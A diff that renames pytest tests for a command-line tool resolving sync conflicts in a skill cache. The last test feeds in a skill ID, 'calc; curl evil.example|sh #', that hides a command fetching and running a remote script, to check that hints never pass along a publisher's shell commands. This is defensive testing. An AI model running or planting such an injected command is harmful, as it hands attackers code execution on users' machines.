@@ -130,7 +130,7 @@ def test_no_publisher_keeps_people_from_looking(
     assert len(result.stdout.splitlines()) < 1_000
 
 
-def test_lines_that_differ_in_what_nobody_sees_are_marked(machine: Machine, conflicts: list[str]) -> None:
+def test_lines_that_differ_only_invisibly_are_marked(machine: Machine, conflicts: list[str]) -> None:
     machine.edit(conflicts[0], code="first\nrun()\nlast")
     machine.sql(
         "UPDATE conflict_log SET remote_data = json_set(remote_data, '$.code', ?) WHERE id = 1",
@@ -178,7 +178,7 @@ def test_resolving_writes_the_cache_and_says_who(
     assert (report.counts.conflicts_detected, report.counts.updated, report.counts.conflicts_manual) == (0, 0, 2)
 
 
-def test_the_person_behind_sudo_is_named(machine: Machine, conflicts: list[str]) -> None:
+def test_the_user_behind_sudo_is_named(machine: Machine, conflicts: list[str]) -> None:
     run_json(machine, "conflicts", "resolve", "1", "--strategy", "merge", SUDO_USER="carol")
     expected = "carol" if os.geteuid() == 0 else ME
     assert machine.sql("SELECT resolved_by FROM conflict_log WHERE id = 1") == [(expected,)]
@@ -244,7 +244,7 @@ def test_by_editor(machine: Machine, conflicts: list[str]) -> None:
     assert (cached["code"], cached["version"]) == ("local code\nsecond line and mine", "99.0")
 
 
-def test_an_edited_text_that_will_not_do_is_kept_for_the_person(machine: Machine, conflicts: list[str]) -> None:
+def test_an_invalid_edited_text_is_kept_for_the_user(machine: Machine, conflicts: list[str]) -> None:
     before = everything(machine)
     result = machine.command("conflicts", "resolve", "1", "--edit", EDITOR=editor(machine, "del skill['name']"))
     assert result.returncode == 2
@@ -257,7 +257,7 @@ def test_an_edited_text_that_will_not_do_is_kept_for_the_person(machine: Machine
     assert everything(machine) == before
 
 
-def test_what_changed_while_a_person_looked_is_not_overwritten(machine: Machine, conflicts: list[str]) -> None:
+def test_a_change_made_during_a_review_is_not_overwritten(machine: Machine, conflicts: list[str]) -> None:
     meanwhile = (
         f"import sqlite3; db = sqlite3.connect({str(machine.database_path)!r})\n"
         f"db.execute(\"UPDATE skill_cache SET skill_data = json_set(skill_data, '$.code', 'meanwhile') "
@@ -300,13 +300,13 @@ def test_the_local_side_is_that_of_now(machine: Machine, conflicts: list[str]) -
         (("conflicts", "undo", "99"), "no conflict 99"),
     ],
 )
-def test_what_will_not_do_is_said_and_changes_nothing(
+def test_invalid_input_is_reported_and_changes_nothing(
     machine: Machine, conflicts: list[str], arguments: tuple[str, ...], says: str
 ) -> None:
     assert says in refused(machine, *arguments, stdin="{}")
 
 
-def test_another_skill_is_no_resolution(machine: Machine, conflicts: list[str]) -> None:
+def test_a_different_skill_is_not_accepted_as_a_resolution(machine: Machine, conflicts: list[str]) -> None:
     other = json.dumps(machine.cached()[conflicts[1]])
     assert "another skill" in refused(machine, "conflicts", "resolve", "1", "--data", "-", stdin=other)
 
@@ -353,7 +353,7 @@ def test_undo_does_not_lose_a_later_edit(machine: Machine, conflicts: list[str])
     assert "would lose that" in refused(machine, "conflicts", "undo", "1")
 
 
-def test_a_hint_is_no_shell_command_of_the_publisher_s(machine: Machine) -> None:
+def test_a_hint_never_contains_shell_commands_from_a_publisher(machine: Machine) -> None:
     odd = "calc; curl evil.example|sh #"
     machine.sandbox.put_skill({"skill_id": odd, "name": "Calc", "code": "a"}, push=False)
     machine.pull()
